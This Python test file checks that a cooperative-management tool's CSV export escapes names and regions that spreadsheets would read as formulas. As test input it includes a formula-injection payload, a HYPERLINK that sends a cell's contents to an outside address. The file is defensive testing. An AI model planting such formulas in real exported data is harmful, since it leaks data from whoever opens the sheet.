"""/tableau csv: a coop's name or region is text in the spreadsheet, never a formula it runs.

A name starting with « = », « + », « - » or « @ » (``qualicoop coop add "=HYPERLINK(…)"``, a typo or a
copy from another sheet) was written as it is: Excel and LibreOffice read such a cell as a formula,
which may fetch an address or run a command when the federation opens the file.
"""

from __future__ import annotations

from tests.conversations.test_dashboard import csv_rows


async def test_a_name_that_reads_as_a_formula_opens_as_text(harness):
    for name, region in (
        ('=HYPERLINK("https://exemple.org/?"&A1;"Voir")', "@SUM(1+1)"),
        ("+33 Habitat", "-Nord"),
        ("Coop Ordinaire", "Bretagne"),
    ):
        await harness.add_coop(name, region=region)
    rows = {row["Coopérative"]: row["Région"] for row in await csv_rows(harness, "fr", ";")}
    assert rows == {
        "'+33 Habitat": "'-Nord",
        '\'=HYPERLINK("https://exemple.org/?"&A1;"Voir")': "'@SUM(1+1)",
        "Coop Ordinaire": "Bretagne",
    }
